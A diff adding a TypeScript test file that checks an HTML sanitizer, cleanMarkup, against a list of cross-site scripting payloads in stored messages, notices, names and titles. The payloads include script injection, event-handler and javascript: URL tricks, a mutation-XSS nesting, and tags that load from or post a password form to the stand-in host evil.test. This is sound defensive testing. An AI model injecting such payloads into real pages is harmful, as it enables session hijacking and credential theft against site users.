@@ -1,0 +1,151 @@
+import { refs } from '@shulei/contract/refs.ts'
+import { sql } from 'drizzle-orm'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { messageSessions, messages } from '../../src/modules/message/tables.ts'
+import { notices } from '../../src/modules/notice/tables.ts'
+import { cleanMarkup } from '../../src/platform/markup.ts'
+import { engines, openApi, type TestApi, type TestPerson } from '../harness.ts'
+import { tell } from '../notice/events.ts'
+import { thread } from './talk.ts'
+
+/** Markup that ran somewhere (reliability, T10). */
+const payloads = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.test/pixel.gif">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" &#106;avascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.test">x</a>',
+  '<a href="/ok" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
+  '<a href="/ok" target="_blank" id="root" name="x" class="y">x</a>',
+  '<iframe src="https://evil.test"></iframe>',
+  '<form action="https://evil.test"><input name=password></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<style>*{background:url(https://evil.test)}</style>',
+  '<link rel=stylesheet href=https://evil.test/x.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.test">',
+  '<base href="https://evil.test/">',
+  '<object data="https://evil.test"></object>',
+  '<details open ontoggle=alert(1)>x',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<!--<img src="--><img src=x onerror=alert(1)>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '"><script>alert(1)</script>',
+  '<<p>x',
+  '<p>'.repeat(2000),
+]
+
+const allowed = /^<\/?(p|br|hr|h3|h4|ul|ol|li|blockquote|pre|code|strong|em|del|a)( (href|rel|start)="[^"]*")*( \/)?>$/
+
+/** That nothing in it runs, styles, loads or frames: only plain tags, and links to here, to the web or to mail. */
+function expectHarmless(markup: string, payload: string) {
+  for (const tag of markup.match(/<[^>]*>?/g) ?? []) expect(tag, payload).toMatch(allowed)
+  for (const [, href] of markup.matchAll(/href="([^"]*)"/g)) {
+    expect(href, payload).toMatch(/^(https?:\/\/|mailto:|\/(?!\/)|#)/)
+  }
+}
+
+it.each(payloads)('markup is harmless after cleaning, and cleaning again changes nothing: %s', (payload) => {
+  const once = cleanMarkup(payload)
+  expectHarmless(once, payload)
+  expect(cleanMarkup(once)).toBe(once)
+})
+
+it('what an editor makes stays', () => {
+  const fine =
+    '<h3>标题</h3><p>一段<strong>重点</strong>和<em>强调</em>，<a href="https://example.com/" rel="noopener nofollow">链接</a></p><ul><li>一</li></ul>'
+  expect(cleanMarkup(fine)).toBe(fine)
+})
+
+describe.each(engines)('markup that was stored without being cleaned, on $name', (engine) => {
+  let api: TestApi
+  let lin: TestPerson
+  beforeAll(async () => {
+    api = await openApi(engine)
+    lin = await api.person()
+  })
+  afterAll(() => api.close())
+
+  it('is cleaned when a system message is read', async () => {
+    const { db } = api.platform
+    const createdAt = new Date(api.clock.now())
+    await db.insert(messages).values(
+      payloads.map((content, index) => ({
+        senderId: 100_000,
+        receiverId: lin.id,
+        content,
+        system: true,
+        idempotencyKey: `raw-${index}`,
+        createdAt,
+      })),
+    )
+    await db.insert(messageSessions).values({ userId: lin.id, partnerId: 100_000, lastMessageId: 1 })
+    const { list } = await thread(api, lin, 100_000, { per_page: 100 })
+    expect(list).toHaveLength(payloads.length)
+    for (const message of list) expectHarmless(message.content, message.content)
+  })
+
+  it('is cleaned when a notice is read', async () => {
+    for (const [index, payload] of payloads.entries()) {
+      const both = { cn: payload, en: payload }
+      const [notice] = await api.platform.db
+        .insert(notices)
+        .values({
+          recipientId: lin.id,
+          kind: 'announced',
+          subject: `raw-${index}`,
+          facts: { title: both, intro: both, content: both },
+          createdAt: new Date(api.clock.now()),
+        })
+        .returning()
+      const { content } = await api.as(lin).send(refs.noticeDetail, { params: { id: notice?.id ?? 0 } })
+      for (const text of [content.cn, content.en]) expectHarmless(text, payload)
+    }
+  })
+
+  it('in names and titles comes out of a notice as text', async () => {
+    for (const [index, payload] of payloads.entries()) {
+      const actor = await api.person({ name: payload.slice(0, 200) })
+      const title = { cn: payload, en: payload }
+      await tell(api, [
+        { recipientId: lin.id, kind: 'liked', actorId: actor.id, subject: `${index}`, facts: { title, href: payload } },
+        {
+          recipientId: lin.id,
+          kind: 'invited',
+          actorId: actor.id,
+          subject: `${index}`,
+          facts: { competitionId: 1, competition: title, inviteId: 1, teamId: 1, team: payload },
+        },
+      ])
+    }
+    const { rows } = await api.platform.db.execute<{ id: number }>(
+      sql`select id::float8 as id from notices where kind in ('liked', 'invited')`,
+    )
+    expect(rows).toHaveLength(2 * payloads.length)
+    for (const { id } of rows) {
+      const { content } = await api.as(lin).send(refs.noticeDetail, { params: { id } })
+      for (const tag of `${content.cn}${content.en}`.match(/<[^>]*>/g) ?? []) {
+        expect(tag).toMatch(/^<\/?p>$|^<\/a>$|^<a href="\/[^"<>]*">$/)
+      }
+    }
+  })
+
+  it('is cleaned when it is written', async () => {
+    const content = { cn: payloads.join(''), en: '' }
+    const title = { cn: '升级', en: 'Upgrade' }
+    await tell(api, [
+      { recipientId: lin.id, kind: 'announced', subject: 'written', facts: { title, intro: title, content } },
+    ])
+    const { rows } = await api.platform.db.execute<{ cn: string }>(
+      sql`select facts -> 'content' ->> 'cn' as cn from notices where subject = 'written'`,
+    )
+    expectHarmless(rows[0]?.cn ?? '<none>', 'written')
+  })
+})
